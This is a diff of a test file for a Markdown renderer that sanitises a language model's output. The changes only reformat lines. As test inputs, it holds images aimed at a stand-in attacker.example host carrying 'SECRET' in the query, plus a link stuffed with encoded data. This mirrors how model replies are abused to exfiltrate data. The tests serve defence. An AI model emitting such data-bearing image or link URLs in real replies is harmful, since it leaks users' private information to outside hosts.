@@ -24,15 +24,24 @@ describe('renderMarkdown', () => {
   });
 
   it('keeps the classes it sets itself and drops every class, id and style the model writes', () => {
-    const d = dom('<div class="code-block" id="x" style="color:red"><button class="copy">Copy</button></div><p data-tw-trust="guess code-block">p</p>\n\n![i](https://a.example/i.png)');
+    const d = dom(
+      '<div class="code-block" id="x" style="color:red"><button class="copy">Copy</button></div><p data-tw-trust="guess code-block">p</p>\n\n![i](https://a.example/i.png)',
+    );
     expect(d.querySelector('[class]:not(.image-link), [id], [style], [data-tw-trust], button')).toBeNull();
     expect(d.querySelector('a.image-link')).not.toBeNull();
   });
 
   it('gives links their host and marks those that carry data', () => {
-    const d = dom(`[a](https://docs.example.org/x?page=2) [b](https://t.example/c?d=${'Zm9vYmFyMTIz'.repeat(4)}) [c](mailto:me@example.com) [d](https://user:pw@bank.example/)`);
+    const d = dom(
+      `[a](https://docs.example.org/x?page=2) [b](https://t.example/c?d=${'Zm9vYmFyMTIz'.repeat(4)}) [c](mailto:me@example.com) [d](https://user:pw@bank.example/)`,
+    );
     const [a, b, c, e] = [...d.querySelectorAll('a')];
-    expect([a, b, c, e].map((l) => l!.getAttribute('data-host'))).toEqual(['docs.example.org', 't.example', 'me@example.com', 'bank.example']);
+    expect([a, b, c, e].map((l) => l!.getAttribute('data-host'))).toEqual([
+      'docs.example.org',
+      't.example',
+      'me@example.com',
+      'bank.example',
+    ]);
     expect(a!.hasAttribute('data-suspicious')).toBe(false);
     expect(a!.getAttribute('title')).toBe('https://docs.example.org/x?page=2');
     expect(b!.getAttribute('data-suspicious')).toBe('The link carries encoded data.');
@@ -64,7 +73,9 @@ describe('renderMarkdown', () => {
 
 describe('images from the model', () => {
   it('never load by themselves: Markdown and HTML images become links or are removed', () => {
-    const d = dom('Look: ![secret chart](https://attacker.example/p.png?q=SECRET)\n\n<img src="https://attacker.example/x.png"><picture><source srcset="https://attacker.example/y.png"></picture><svg><image href="https://attacker.example/z.png"/></svg>');
+    const d = dom(
+      'Look: ![secret chart](https://attacker.example/p.png?q=SECRET)\n\n<img src="https://attacker.example/x.png"><picture><source srcset="https://attacker.example/y.png"></picture><svg><image href="https://attacker.example/z.png"/></svg>',
+    );
     expect(d.querySelector('img, picture, source, image')).toBeNull();
     const link = d.querySelector('a.image-link')!;
     expect(link.textContent).toBe('[image: secret chart]');
